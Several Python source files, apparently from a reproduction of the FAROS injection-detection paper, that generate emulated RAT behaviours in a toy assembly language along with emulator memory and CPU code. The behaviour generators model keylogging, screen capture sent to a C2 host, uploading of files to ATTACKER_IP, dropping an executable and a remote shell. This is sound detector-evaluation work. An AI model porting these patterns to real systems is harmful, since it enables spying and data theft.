def _idle(uid: str, variant: int) -> BehaviorResult:
    ticks = 1500 + 315 * (variant % 7)
    return BehaviorResult(
        asm=f"""
    ; behaviour: idle
    movi r1, {ticks}
    movi r0, SYS_SLEEP
    syscall
    movi r1, {ticks // 2}
    movi r0, SYS_SLEEP
    syscall
"""
    )


def _run(uid: str, variant: int) -> BehaviorResult:
    iters = 300 + 87 * (variant % 11)
    return BehaviorResult(
        asm=f"""
    ; behaviour: run (compute)
    movi r5, {iters}
    movi r6, 1
run_{uid}:
    muli r6, r6, 3
    addi r6, r6, 7
    subi r5, r5, 1
    cmpi r5, 0
    jnz run_{uid}
"""
    )


def _audio_record(uid: str, variant: int) -> BehaviorResult:
    return BehaviorResult(
        asm=f"""
    ; behaviour: audio record -> file
    movi r1, audio_path_{uid}
    movi r0, SYS_CREATE_FILE
    syscall
    mov r6, r0
    movi r1, audio_buf_{uid}
    movi r2, 32
    movi r0, SYS_READ_AUDIO
    syscall
    mov r1, r6
    movi r2, audio_buf_{uid}
    movi r3, 32
    movi r0, SYS_WRITE_FILE
    syscall
    jmp audio_done_{uid}
audio_path_{uid}: .asciz "C:\\\\audio_{uid}.cap"
audio_buf_{uid}: .space 32
audio_done_{uid}:
"""
    )


def _keylogger(uid: str, variant: int) -> BehaviorResult:
    return BehaviorResult(
        asm=f"""
    ; behaviour: key logger (poll, append to log)
    movi r1, keylog_path_{uid}
    movi r0, SYS_CREATE_FILE
    syscall
    mov r6, r0
    movi r5, 6
keypoll_{uid}:
    movi r1, keybuf_{uid}
    movi r2, 8
    movi r0, SYS_READ_KEYS
    syscall
    cmpi r0, 0
    jz keysleep_{uid}
    mov r3, r0
    mov r1, r6
    movi r2, keybuf_{uid}
    movi r0, SYS_WRITE_FILE
    syscall
keysleep_{uid}:
    movi r1, 2000
    movi r0, SYS_SLEEP
    syscall
    subi r5, r5, 1
    cmpi r5, 0
    jnz keypoll_{uid}
    jmp keydone_{uid}
keylog_path_{uid}: .asciz "C:\\\\keys_{uid}.log"
keybuf_{uid}: .space 8
keydone_{uid}:
""",
        keystrokes=b"s3cret!",
    )


def _remote_desktop(uid: str, variant: int) -> BehaviorResult:
    return BehaviorResult(
        asm=f"""
    ; behaviour: remote desktop (screen -> C2)
    movi r1, screen_buf_{uid}
    movi r2, 64
    movi r0, SYS_CAPTURE_SCREEN
    syscall
    mov r1, r7
    movi r2, screen_buf_{uid}
    movi r3, 64
    movi r0, SYS_SEND
    syscall
    jmp rd_done_{uid}
screen_buf_{uid}: .space 64
rd_done_{uid}:
""",
        needs_network=True,
    )


def _screenshot(uid: str, variant: int) -> BehaviorResult:
    return BehaviorResult(
        asm=f"""
    ; behaviour: screenshot to file (snipping-tool style)
    movi r1, shot_path_{uid}
    movi r0, SYS_CREATE_FILE
    syscall
    mov r6, r0
    movi r1, shot_buf_{uid}
    movi r2, 64
    movi r0, SYS_CAPTURE_SCREEN
    syscall
    mov r1, r6
    movi r2, shot_buf_{uid}
    movi r3, 64
    movi r0, SYS_WRITE_FILE
    syscall
    jmp shot_done_{uid}
shot_path_{uid}: .asciz "C:\\\\capture_{uid}.png"
shot_buf_{uid}: .space 64
shot_done_{uid}:
"""
    )


def _file_transfer(uid: str, variant: int) -> BehaviorResult:
    data = bytes((0x40 + variant + i) & 0xFF for i in range(32))
    return BehaviorResult(
        asm=f"""
    ; behaviour: file transfer (C2 -> disk)
    movi r4, xfer_buf_{uid}
    movi r5, 32
xfer_recv_{uid}:
    mov r1, r7
    mov r2, r4
    mov r3, r5
    movi r0, SYS_RECV
    syscall
    add r4, r4, r0
    sub r5, r5, r0
    cmpi r5, 0
    jnz xfer_recv_{uid}
    movi r1, xfer_path_{uid}
    movi r0, SYS_CREATE_FILE
    syscall
    mov r1, r0
    movi r2, xfer_buf_{uid}
    movi r3, 32
    movi r0, SYS_WRITE_FILE
    syscall
    jmp xfer_done_{uid}
xfer_path_{uid}: .asciz "C:\\\\transfer_{uid}.bin"
xfer_buf_{uid}: .space 32
xfer_done_{uid}:
""",
        inbound_payloads=[data],
        needs_network=True,
    )


def _upload(uid: str, variant: int) -> BehaviorResult:
    return BehaviorResult(
        asm=f"""
    ; behaviour: upload (disk -> C2)
    movi r1, up_path_{uid}
    movi r0, SYS_CREATE_FILE
    syscall
    mov r6, r0
    mov r1, r6
    movi r2, up_secret_{uid}
    movi r3, 16
    movi r0, SYS_WRITE_FILE
    syscall
    movi r1, up_path_{uid}
    movi r0, SYS_OPEN_FILE
    syscall
    mov r6, r0
    mov r1, r6
    movi r2, up_buf_{uid}
    movi r3, 16
    movi r0, SYS_READ_FILE
    syscall
    mov r1, r7
    movi r2, up_buf_{uid}
    movi r3, 16
    movi r0, SYS_SEND
    syscall
    jmp up_done_{uid}
up_path_{uid}: .asciz "C:\\\\docs_{uid}.txt"
up_secret_{uid}: .ascii "confidential 00{variant % 10}!"
up_buf_{uid}: .space 16
up_done_{uid}:
""",
        needs_network=True,
    )


def _download(uid: str, variant: int) -> BehaviorResult:
    # A dropped executable that is SAVED but never run: the classic
    # downloader flow that must not trip FAROS.
    dropper = b"MZ" + bytes((0x10 + variant + i) & 0xFF for i in range(46))
    return BehaviorResult(
        asm=f"""
    ; behaviour: download (C2 -> dropped exe, never executed)
    movi r4, dl_buf_{uid}
    movi r5, 48
dl_recv_{uid}:
    mov r1, r7
    mov r2, r4
    mov r3, r5
    movi r0, SYS_RECV
    syscall
    add r4, r4, r0
    sub r5, r5, r0
    cmpi r5, 0
    jnz dl_recv_{uid}
    movi r1, dl_path_{uid}
    movi r0, SYS_CREATE_FILE
    syscall
    mov r1, r0
    movi r2, dl_buf_{uid}
    movi r3, 48
    movi r0, SYS_WRITE_FILE
    syscall
    jmp dl_done_{uid}
dl_path_{uid}: .asciz "C:\\\\update_{uid}.exe"
dl_buf_{uid}: .space 48
dl_done_{uid}:
""",
        inbound_payloads=[dropper],
        needs_network=True,
    )


def _remote_shell(uid: str, variant: int) -> BehaviorResult:
    return BehaviorResult(
        asm=f"""
    ; behaviour: remote shell (run C2 command in our own context)
    movi r4, sh_buf_{uid}
    movi r5, 8
sh_recv_{uid}:
    mov r1, r7
    mov r2, r4
    mov r3, r5
    movi r0, SYS_RECV
    syscall
    add r4, r4, r0
    sub r5, r5, r0
    cmpi r5, 0
    jnz sh_recv_{uid}
    movi r1, sh_buf_{uid}
    movi r0, SYS_EXEC_CMD
    syscall
    jmp sh_done_{uid}
sh_buf_{uid}: .space 9
sh_done_{uid}:
""",
        inbound_payloads=[b"whoami\x00\x00"],
        needs_network=True,
    )


#: Behaviour name -> generator, matching Table IV's columns.
BEHAVIORS: Dict[str, BehaviorFn] = {
    "idle": _idle,
    "run": _run,
    "audio_record": _audio_record,
    "file_transfer": _file_transfer,
    "keylogger": _keylogger,
    "remote_desktop": _remote_desktop,
    "screenshot": _screenshot,
    "upload": _upload,
    "download": _download,
    "remote_shell": _remote_shell,
}


def build_sample_scenario(
    name: str,
    behaviors: Sequence[str],
    variant: int = 0,
    max_instructions: int = 600_000,
) -> Scenario:
    """Compile a behaviour list into one runnable guest scenario."""
    parts: List[str] = []
    results: List[BehaviorResult] = []
    for index, behavior in enumerate(behaviors):
        fn = BEHAVIORS[behavior]
        results.append(fn(f"b{index}", variant))
    needs_network = any(r.needs_network for r in results)

    header = "start:\n"
    if needs_network:
        header += f"""
    movi r0, SYS_SOCKET
    syscall
    mov r7, r0
    mov r1, r7
    movi r2, c2_ip
    movi r3, {ATTACKER_PORT}
    movi r0, SYS_CONNECT
    syscall
"""
    parts.append(header)
    parts.extend(r.asm for r in results)
    parts.append("    movi r1, 0\n    movi r0, SYS_EXIT\n    syscall")
    if needs_network:
        parts.append(f'c2_ip: .asciz "{ATTACKER_IP}"')

    image_name = f"{name}.exe".replace(" ", "_").lower()
    source = program(*parts)
    prog = assemble(source, base=layout.IMAGE_BASE)

    def setup(machine) -> None:
        machine.kernel.register_image(image_name, prog)
        machine.kernel.spawn(image_name, name=name)

    events: List[Tuple[int, object]] = []
    tick = 12_000
    for result in results:
        if result.keystrokes:
            # Early delivery: the keyboard buffers until the poll loop runs.
            events.append((2_000, KeystrokeEvent(result.keystrokes)))
        for payload in result.inbound_payloads:
            events.append(
                (
                    tick,
                    PacketEvent(
                        Packet(
                            ATTACKER_IP,
                            ATTACKER_PORT,
                            GUEST_IP,
                            FIRST_EPHEMERAL_PORT,
                            payload,
                        )
                    ),
                )
            )
            tick += 15_000
    return Scenario(
        name=name, setup=setup, events=events, max_instructions=max_instructions
    )
