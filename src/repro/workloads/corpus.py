"""The false-positive corpus (Table IV).

The paper tests FAROS against 90 non-injecting malware samples drawn
from 17 RAT families/configurations, plus 14 benign applications, and
reports **0%** false positives.  This module reproduces that roster:
each Table IV row becomes a behaviour composition, and each row is
expanded into several sample *variants* (differing timings, payload
contents, artifact names -- the way real corpora contain many hashes of
one family) until the totals match the paper: 90 malware + 14 benign.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import List, Sequence, Tuple

from repro.emulator.record_replay import Scenario
from repro.workloads.behaviors import build_sample_scenario

#: Table IV, malware half: (program, behaviours).  Behaviour choices
#: follow the row's checkmarks; where the table marks a count without
#: unambiguous columns, the assignment matches the family's documented
#: capabilities.
MALWARE_ROWS: Tuple[Tuple[str, Tuple[str, ...]], ...] = (
    ("Pandora v2.2", ("idle", "run", "audio_record", "file_transfer", "keylogger", "remote_desktop", "upload")),
    ("Darkcomet v5.3", ("idle", "run", "audio_record", "file_transfer", "keylogger", "remote_desktop")),
    ("Njrat v0.7", ("idle", "run", "file_transfer", "keylogger", "upload", "download")),
    ("Spygate v3.2", ("idle", "run", "audio_record", "keylogger", "remote_desktop", "upload", "download")),
    ("Blue Banana", ("idle", "run", "file_transfer", "remote_shell")),
    ("Blue Banana v2.0", ("idle", "run", "upload", "remote_shell")),
    ("Blue Banana v3.0", ("idle", "run", "download", "remote_shell")),
    ("Bozok", ("idle", "run", "audio_record", "file_transfer", "keylogger", "remote_desktop")),
    ("Bozok v2.0", ("idle", "run", "file_transfer", "keylogger", "remote_desktop", "upload")),
    ("Bozok v3.0", ("idle", "run", "file_transfer", "keylogger", "remote_desktop", "download")),
    ("DarkComet v5.1.2", ("idle", "run", "audio_record", "file_transfer", "keylogger", "remote_desktop")),
    ("DarkComet legacy", ("idle", "run", "audio_record", "keylogger", "remote_desktop", "remote_shell")),
    ("Extremerat v2.7.1", ("idle", "run", "audio_record", "file_transfer", "keylogger", "remote_desktop", "remote_shell")),
    ("Jspy", ("idle", "run", "keylogger", "remote_desktop")),
    ("Jspy v2.0", ("idle", "run", "keylogger", "upload")),
    ("Jspy v3.0", ("idle", "run", "keylogger", "download")),
    ("Quasar v1.0", ("idle", "run", "remote_shell")),
)

#: Table IV, benign half.
BENIGN_ROWS: Tuple[Tuple[str, Tuple[str, ...]], ...] = (
    ("Remote Utility", ("idle", "run", "file_transfer", "remote_desktop", "download")),
    ("TeamViewer", ("idle", "run", "remote_desktop")),
    ("Win7-snipping tool", ("idle", "run", "screenshot")),
    ("Skype", ("idle", "run", "audio_record")),
)

#: Corpus totals from the paper's §VI-A.
MALWARE_SAMPLE_COUNT = 90
BENIGN_SAMPLE_COUNT = 14


@dataclass
class SampleSpec:
    """One corpus sample: a (family row, variant) instantiation."""

    name: str
    family: str
    behaviors: Tuple[str, ...]
    benign: bool
    variant: int

    def scenario(self) -> Scenario:
        return build_sample_scenario(
            name=self.name, behaviors=self.behaviors, variant=self.variant
        )

    def job_params(self) -> dict:
        """This spec as picklable triage-job kwargs (no live objects)."""
        return {
            "name": self.name,
            "family": self.family,
            "behaviors": list(self.behaviors),
            "benign": self.benign,
            "variant": self.variant,
        }

    @classmethod
    def from_params(
        cls, name: str, family: str, behaviors: Sequence[str],
        benign: bool, variant: int,
    ) -> "SampleSpec":
        """Rebuild a spec from :meth:`job_params` output (worker side)."""
        return cls(
            name=name, family=family, behaviors=tuple(behaviors),
            benign=benign, variant=variant,
        )


def _expand(
    rows: Sequence[Tuple[str, Tuple[str, ...]]], total: int, benign: bool
) -> List[SampleSpec]:
    """Round-robin variants over *rows* until *total* samples exist."""
    samples: List[SampleSpec] = []
    variant_counts = [0] * len(rows)
    index = 0
    while len(samples) < total:
        family, behaviors = rows[index % len(rows)]
        variant = variant_counts[index % len(rows)]
        variant_counts[index % len(rows)] += 1
        samples.append(
            SampleSpec(
                name=f"{family} #{variant + 1}",
                family=family,
                behaviors=behaviors,
                benign=benign,
                variant=variant,
            )
        )
        index += 1
    return samples


def corpus_samples() -> List[SampleSpec]:
    """The full 104-sample corpus: 90 malware + 14 benign (Table IV)."""
    return _expand(MALWARE_ROWS, MALWARE_SAMPLE_COUNT, benign=False) + _expand(
        BENIGN_ROWS, BENIGN_SAMPLE_COUNT, benign=True
    )
