"""JIT / class-loading workloads (Table III): Java applets & AJAX sites.

The paper's only false positives come from JIT-style runtimes: "the
system receives data over the network, which is linked and loaded with
export tables" (§VI-A).  This module reproduces that mechanism with a
mini class-loading runtime:

1. ``java.exe`` / ``browser.exe`` downloads an "applet" (obfuscated
   native code -- the class-file/bytecode stand-in) from its host site;
2. the runtime *compiles* it: each byte is transformed (XOR-decoded,
   the classloader/JIT translation step) and emitted into fresh RWX
   memory through ordinary store instructions -- so the generated
   code's bytes carry **netflow** provenance, exactly like an injected
   payload;
3. the generated code runs inside the runtime's own process.

Most applets compile to pure arithmetic and return -- network-derived
code executes, but never touches the export table, so FAROS stays
quiet.  Two of the ten Java applets use **native-method binding**: their
generated prologue resolves a runtime helper from the export table by
hash (real JITs bind JNI/native calls this way).  Those two produce the
netflow + process + export-table confluence and are flagged -- the
paper's 2/20 (10% of applets, 2% overall) false-positive result, which
an analyst whitelists because the offending process is a known JIT.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import List, Tuple

from repro.attacks.common import FIRST_EPHEMERAL_PORT, GUEST_IP
from repro.emulator.devices import Packet
from repro.emulator.record_replay import PacketEvent, Scenario
from repro.guestos import layout
from repro.guestos.asmlib import program
from repro.guestos.loader import export_resolver_asm
from repro.isa.assembler import assemble

#: Table III's sample names (http://www.walter-fendt.de/ph14e/ applets).
JAVA_APPLETS: Tuple[str, ...] = (
    "acceleration",
    "equilibrium",
    "pulleysystem",
    "projectile",
    "ncradle",
    "keplerlaw1",
    "inclplane",
    "lever",
    "keplerlaw2",
    "collision",
)

AJAX_SITES: Tuple[str, ...] = (
    "gmail.com",
    "maps.google.com",
    "kayak.com",
    "netflix.com/top100",
    "kiko.com",
    "backpackit.com",
    "sudokucarving.com",
    "pressdisplay.com",
    "rpad.com",
    "brainking.com",
)

#: The two applets whose native-method binding trips FAROS (Table III
#: reports 2 of the Java applets flagged; the names are our choice).
NATIVE_BINDING_APPLETS = frozenset({"acceleration", "keplerlaw1"})

#: The full Table III roster as picklable ``(name, kind)`` descriptors --
#: what the triage engine ships to workers (building the scenarios
#: themselves assembles guest code, so that happens worker-side).
JIT_WORKLOADS: Tuple[Tuple[str, str], ...] = tuple(
    (name, "applet") for name in JAVA_APPLETS
) + tuple((name, "ajax") for name in AJAX_SITES)


def uses_native_binding(name: str, kind: str) -> bool:
    """Ground truth for Table III: does this workload bind native code?"""
    return kind == "applet" and name in NATIVE_BINDING_APPLETS

#: Classloader obfuscation key (the 'bytecode' is XOR-coded native code).
CLASS_KEY = 0x5A

#: Where the runtime's first RWX allocation lands (deterministic).
JIT_CODE_BASE = layout.HEAP_BASE

#: The applet-host server address.
APPLET_HOST_IP = "93.184.216.34"
APPLET_HOST_PORT = 80


@dataclass
class JitSample:
    """One Table III workload."""

    name: str
    kind: str  # "applet" or "ajax"
    uses_native_binding: bool
    scenario: Scenario


def _applet_native_code(name: str, native_binding: bool) -> bytes:
    """Assemble the applet's true native code (pre-obfuscation).

    Runs at :data:`JIT_CODE_BASE`, entered at offset 0, returns to the
    runtime with ``ret``.
    """
    iters = 50 + (sum(name.encode()) % 90)
    compute = f"""
    ; physics-y compute kernel (save LR: native binding makes calls)
    push lr
    movi r1, {iters}
    movi r2, 1
applet_loop:
    muli r2, r2, 5
    addi r2, r2, 3
    shri r3, r2, 2
    add r2, r2, r3
    subi r1, r1, 1
    cmpi r1, 0
    jnz applet_loop
"""
    if native_binding:
        # Native-method binding: resolve a runtime helper from the
        # export table (the JNI-style path that causes the FP).
        binding = export_resolver_asm("GetSystemTime", result_reg="r7").format(
            uid="jni"
        )
        compute += binding + "\n    callr r7\n"
    compute += "    pop lr\n    ret\n"
    return assemble(compute, base=JIT_CODE_BASE).code


def _runtime_asm(code_size: int) -> str:
    """The JIT runtime: download, decode into RWX memory, execute."""
    return f"""
    start:
        movi r0, SYS_SOCKET
        syscall
        mov r7, r0
        mov r1, r7
        movi r2, host_ip
        movi r3, {APPLET_HOST_PORT}
        movi r0, SYS_CONNECT
        syscall
        ; request the applet
        mov r1, r7
        movi r2, request
        movi r3, 11
        movi r0, SYS_SEND
        syscall
        ; download the class bytes
        movi r4, class_buf
        movi r5, {code_size}
    fetch:
        mov r1, r7
        mov r2, r4
        mov r3, r5
        movi r0, SYS_RECV
        syscall
        add r4, r4, r0
        sub r5, r5, r0
        cmpi r5, 0
        jnz fetch
        ; JIT: allocate executable memory
        movi r1, {code_size}
        movi r2, PERM_RWX
        movi r0, SYS_ALLOC
        syscall
        mov r6, r0
        ; translate: decode each byte into the code buffer
        movi r1, class_buf
        mov r2, r6
        movi r3, {code_size}
    jit:
        ldb r4, [r1]
        xori r4, r4, {CLASS_KEY}
        stb [r2], r4
        addi r1, r1, 1
        addi r2, r2, 1
        subi r3, r3, 1
        cmpi r3, 0
        jnz jit
        ; run the compiled applet
        callr r6
        movi r1, 0
        movi r0, SYS_EXIT
        syscall
    host_ip: .asciz "{APPLET_HOST_IP}"
    request: .ascii "GET /applet"
    class_buf: .space {code_size}
    """


def build_jit_scenario(name: str, kind: str) -> JitSample:
    """Build one Table III workload (applet or AJAX site)."""
    native_binding = uses_native_binding(name, kind)
    native = _applet_native_code(name, native_binding)
    class_bytes = bytes(b ^ CLASS_KEY for b in native)

    runtime_image = "java.exe" if kind == "applet" else "browser.exe"
    prog = assemble(program(_runtime_asm(len(class_bytes))), base=layout.IMAGE_BASE)

    def setup(machine) -> None:
        machine.kernel.register_image(runtime_image, prog)
        machine.kernel.spawn(runtime_image)

    events = [
        (
            15_000,
            PacketEvent(
                Packet(
                    APPLET_HOST_IP,
                    APPLET_HOST_PORT,
                    GUEST_IP,
                    FIRST_EPHEMERAL_PORT,
                    class_bytes,
                )
            ),
        )
    ]
    return JitSample(
        name=name,
        kind=kind,
        uses_native_binding=native_binding,
        scenario=Scenario(
            name=f"jit_{kind}_{name}",
            setup=setup,
            events=events,
            max_instructions=400_000,
        ),
    )


def jit_samples() -> List[JitSample]:
    """All 20 Table III workloads: 10 applets + 10 AJAX sites."""
    return [build_jit_scenario(name, kind) for name, kind in JIT_WORKLOADS]
