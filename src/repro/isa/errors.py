"""Exception hierarchy for the ISA layer.

Two families of failure exist at this layer:

* **Host errors** (:class:`IsaError` subclasses other than
  :class:`GuestFault`): bugs in harness code -- out-of-range physical
  addresses, malformed encodings built by the host, assembler misuse.  These
  propagate as ordinary Python exceptions.

* **Guest faults** (:class:`GuestFault` subclasses): conditions raised *by
  guest execution* -- page faults, privilege violations, undefined opcodes
  fetched from guest memory.  The emulator catches these and turns them into
  guest-visible events (process termination by the kernel), the same way a
  hardware fault traps to the OS.

:class:`GuestFault` additionally participates in the repo-wide
:class:`~repro.faults.errors.EmulatorFault` taxonomy, so the machine's
run loop has a single backstop for every guest-attributable condition.
"""

from repro.faults.errors import EmulatorFault


class IsaError(Exception):
    """Base class for every error raised by the ISA layer."""


class PhysicalMemoryError(IsaError):
    """A physical address is outside the installed memory range."""

    def __init__(self, paddr: int, size: int) -> None:
        super().__init__(f"physical access at {paddr:#x} outside memory of {size:#x} bytes")
        self.paddr = paddr
        self.size = size


class GuestFault(IsaError, EmulatorFault):
    """Base class for faults attributable to guest execution.

    The kernel treats an uncaught guest fault as fatal for the faulting
    process (an access violation / illegal instruction crash), never for
    the whole machine.  As an :class:`~repro.faults.errors.EmulatorFault`
    it is also caught by the machine's graceful-degradation backstop if
    it ever escapes the per-process handling.
    """


class PageFault(GuestFault):
    """A virtual access had no mapping or insufficient permissions."""

    def __init__(self, vaddr: int, access: str, reason: str) -> None:
        super().__init__(f"page fault: {access} at {vaddr:#x} ({reason})")
        self.vaddr = vaddr
        self.access = access
        self.reason = reason


class InvalidInstruction(GuestFault):
    """The CPU fetched bytes that do not decode to a defined instruction."""

    def __init__(self, pc: int, detail: str) -> None:
        super().__init__(f"invalid instruction at pc={pc:#x}: {detail}")
        self.pc = pc
        self.detail = detail


class DecodeError(IsaError):
    """Host-side decode of a byte buffer failed (harness misuse)."""
