"""Physical memory and the physical frame allocator.

Whole-system DIFT operates on *physical* memory: a byte injected into a
victim process occupies the same physical location no matter which virtual
mapping touches it, so shadow (taint) state keyed on physical addresses
survives cross-address-space copies for free.  This module provides the
flat physical memory every address space maps into.

The page size is deliberately small (:data:`PAGE_SIZE` = 256 bytes) so that
guests with a few KiB of code still span many pages, keeping the paging
machinery honest without inflating emulation cost.
"""

from __future__ import annotations

import struct
from typing import Dict, Iterator, List, Sequence, Tuple

from repro.faults.errors import GuestResourceExhausted
from repro.isa.errors import PhysicalMemoryError

PAGE_SIZE = 256
PAGE_SHIFT = 8
assert PAGE_SIZE == 1 << PAGE_SHIFT

_U32 = struct.Struct("<I")


def contiguous_runs(paddrs: Sequence[int]) -> Iterator[Tuple[int, int]]:
    """Decompose a per-byte physical address tuple into ``(start, length)``
    runs of consecutive addresses.

    The MMU emits per-byte ``paddrs`` tuples because virtually-contiguous
    ranges may map to scattered frames -- but within each 256-byte guest
    page the bytes *are* physically consecutive, so a multi-page transfer
    decomposes into at most one run per touched guest page.  Bulk
    consumers (kernel copies, NIC DMA, shadow-tag range ops) iterate
    these runs instead of the bytes.
    """
    i, n = 0, len(paddrs)
    while i < n:
        start = paddrs[i]
        j = i + 1
        expect = start + 1
        while j < n and paddrs[j] == expect:
            j += 1
            expect += 1
        yield start, j - i
        i = j


class PhysicalMemory:
    """A flat, byte-addressable physical memory of fixed size.

    All multi-byte accesses are little-endian.  Accesses outside the
    installed range raise :class:`PhysicalMemoryError` -- the emulator
    never lets guest-originated addresses reach here unchecked, so such an
    error indicates a harness bug.

    **Code versioning.**  Pages that hold translated basic blocks
    (:mod:`repro.isa.translate`) are *watched*: every write landing in a
    watched page bumps its code-version counter, which is part of the
    translation cache key -- so self-modifying and injected code
    (process hollowing, reflective DLL loads, AtomBombing writes) can
    never execute a stale translation.  Unwatched pages pay one dict
    membership test per write; versions are monotonic for the lifetime
    of the memory, surviving cache drops and frame recycling (frame
    reallocation zeroes the page through :meth:`fill`, which itself
    bumps the version).
    """

    def __init__(self, size: int) -> None:
        if size <= 0 or size % PAGE_SIZE:
            raise ValueError(f"memory size must be a positive multiple of {PAGE_SIZE}")
        self._buf = bytearray(size)
        self.size = size
        #: page number -> write-version counter, for watched pages only.
        self._code_versions: Dict[int, int] = {}

    # -- code-version tracking (translation-cache invalidation) -----------------

    def watch_code_page(self, page: int) -> None:
        """Start bumping *page*'s code version on every write into it.

        Idempotent; called by the block translator when it caches a
        block decoded from *page*.  Watched pages are never unwatched --
        the version must stay monotonic so a stale
        ``(page, version)``-keyed block can never validate again.
        """
        self._code_versions.setdefault(page, 0)

    def code_version(self, page: int) -> int:
        """Current write-version of *page* (0 while unwatched/untouched)."""
        return self._code_versions.get(page, 0)

    def _bump_range(self, paddr: int, n: int) -> None:
        """Bump the version of every watched page overlapping the write."""
        cv = self._code_versions
        for page in range(paddr >> PAGE_SHIFT, (paddr + n - 1 >> PAGE_SHIFT) + 1):
            if page in cv:
                cv[page] += 1

    # -- byte / word primitives -------------------------------------------------

    def read_byte(self, paddr: int) -> int:
        """Return the byte at *paddr*."""
        self._check(paddr, 1)
        return self._buf[paddr]

    def write_byte(self, paddr: int, value: int) -> None:
        """Store the low 8 bits of *value* at *paddr*."""
        self._check(paddr, 1)
        self._buf[paddr] = value & 0xFF
        cv = self._code_versions
        if cv:
            page = paddr >> PAGE_SHIFT
            if page in cv:
                cv[page] += 1

    def read_word(self, paddr: int) -> int:
        """Return the little-endian 32-bit word at *paddr*."""
        self._check(paddr, 4)
        return _U32.unpack_from(self._buf, paddr)[0]

    def write_word(self, paddr: int, value: int) -> None:
        """Store *value* as a little-endian 32-bit word at *paddr*."""
        self._check(paddr, 4)
        _U32.pack_into(self._buf, paddr, value & 0xFFFFFFFF)
        cv = self._code_versions
        if cv:
            page = paddr >> PAGE_SHIFT
            if page in cv:
                cv[page] += 1
            last = (paddr + 3) >> PAGE_SHIFT
            if last != page and last in cv:
                cv[last] += 1

    # -- bulk accessors ---------------------------------------------------------

    def read_bytes(self, paddr: int, n: int) -> bytes:
        """Return *n* bytes starting at *paddr*."""
        self._check(paddr, n)
        return bytes(self._buf[paddr : paddr + n])

    def write_bytes(self, paddr: int, data: bytes) -> None:
        """Store *data* starting at *paddr*."""
        self._check(paddr, len(data))
        self._buf[paddr : paddr + len(data)] = data
        if self._code_versions and data:
            self._bump_range(paddr, len(data))

    def fill(self, paddr: int, n: int, value: int = 0) -> None:
        """Set *n* bytes starting at *paddr* to *value*."""
        self._check(paddr, n)
        self._buf[paddr : paddr + n] = bytes([value & 0xFF]) * n
        if self._code_versions and n:
            self._bump_range(paddr, n)

    def _check(self, paddr: int, n: int) -> None:
        if paddr < 0 or n < 0 or paddr + n > self.size:
            raise PhysicalMemoryError(paddr, self.size)


class FrameAllocator:
    """Allocates physical page frames from a :class:`PhysicalMemory`.

    Frames are handed out lowest-address-first and may be returned for
    reuse (process exit, ``NtFreeVirtualMemory``).  Freed frames are zeroed
    on reallocation so stale data never leaks between processes -- matching
    real kernels and keeping taint experiments deterministic.
    """

    def __init__(self, memory: PhysicalMemory, reserved_low: int = 0) -> None:
        """Create an allocator over *memory*.

        *reserved_low* bytes at the bottom of physical memory are never
        allocated (the emulator parks kernel-owned structures there).
        """
        if reserved_low % PAGE_SIZE:
            raise ValueError("reserved_low must be page-aligned")
        self._memory = memory
        first = reserved_low >> PAGE_SHIFT
        last = memory.size >> PAGE_SHIFT
        self._free: List[int] = list(range(first, last))
        self._free.reverse()  # pop() yields lowest frame number first
        self.total_frames = last - first
        #: Optional hook invoked with each freed frame number.  The
        #: emulator points this at its plugin dispatch so taint engines
        #: can drop shadow state for recycled physical pages.
        self.on_free = None

    @property
    def free_frames(self) -> int:
        """Number of frames currently available."""
        return len(self._free)

    def alloc(self) -> int:
        """Allocate one frame; return its frame number (paddr >> PAGE_SHIFT)."""
        if not self._free:
            raise GuestResourceExhausted("physical frames", "no frames free")
        frame = self._free.pop()
        self._memory.fill(frame << PAGE_SHIFT, PAGE_SIZE, 0)
        return frame

    def alloc_many(self, n: int) -> List[int]:
        """Allocate *n* frames (not necessarily contiguous)."""
        if n > len(self._free):
            raise GuestResourceExhausted(
                "physical frames", f"requested {n}, only {len(self._free)} free"
            )
        return [self.alloc() for _ in range(n)]

    def free(self, frame: int) -> None:
        """Return *frame* to the pool."""
        if frame in self._free:
            raise ValueError(f"double free of frame {frame}")
        self._free.append(frame)
        if self.on_free is not None:
            self.on_free(frame)
