"""The CPU core: fetch/decode/execute with full effect tracing.

The CPU is deliberately *pure*: :meth:`CPU.step` executes exactly one
instruction against the attached MMU + physical memory and returns an
:class:`InstructionEffects` record describing everything that happened --
which physical bytes were fetched, read, and written, which register was
updated, whether a branch was taken, whether a syscall trapped.

The emulator layers everything else on top of that record: plugin
callbacks, taint propagation, and FAROS' per-instruction detection all
consume :class:`InstructionEffects` without the CPU knowing they exist.
This mirrors how PANDA instruments QEMU's translated code without changing
its semantics.
"""

from __future__ import annotations

import enum
from dataclasses import dataclass, field
from functools import lru_cache
from typing import List, Optional, Protocol, Tuple

from repro.isa.errors import DecodeError, InvalidInstruction
from repro.isa.instructions import (
    COND_BRANCH_OPS,
    IMM_ALU_OPS,
    INSTRUCTION_SIZE,
    Instruction,
    Op,
    REG_ALU_OPS,
    decode,
    signed32,
)
from repro.isa.memory import PAGE_SHIFT, PAGE_SIZE, PhysicalMemory
from repro.isa.registers import MASK32, Reg, RegisterFile

# Page geometry, derived from the one authoritative definition in
# repro.isa.memory so the fast-path masks can never drift from the MMU's.
_PAGE_MASK = PAGE_SIZE - 1
_FETCH_FAST_LIMIT = PAGE_SIZE - INSTRUCTION_SIZE

#: Capacity of the process-wide decoded-instruction cache.  Sized so a
#: whole triage corpus of distinct guest images fits with room to spare
#: (one entry per distinct 8-byte encoding, not per address).
DECODE_CACHE_SIZE = 1 << 16


@lru_cache(maxsize=DECODE_CACHE_SIZE)
def cached_decode(raw: bytes) -> Instruction:
    """Decode *raw* through the shared, bounded, process-wide LRU.

    Keyed by the raw 8 bytes -- content, not address -- so
    self-modifying/injected code can never be served a stale decode.
    Module-level on purpose: every CPU in the process (and, via fork,
    every batch-triage worker) shares one warm cache instead of
    re-decoding identical guest code per machine.  Decode *failures*
    are not cached; the error path re-raises per fetch, which is fine
    because a faulting fetch kills the guest process anyway.
    """
    return decode(raw)


def decode_cache_info():
    """Hit/miss statistics of the shared decode LRU (for tests/obs)."""
    return cached_decode.cache_info()


class AccessKind(enum.Enum):
    """Why a virtual address is being translated."""

    FETCH = "fetch"
    READ = "read"
    WRITE = "write"


class MMU(Protocol):
    """Anything that can translate virtual to physical addresses.

    The guest OS supplies per-process address spaces implementing this;
    raising :class:`~repro.isa.errors.PageFault` signals a guest fault.
    """

    def translate(self, vaddr: int, access: AccessKind) -> int:
        """Return the physical address for *vaddr* or raise ``PageFault``."""
        ...  # pragma: no cover - protocol


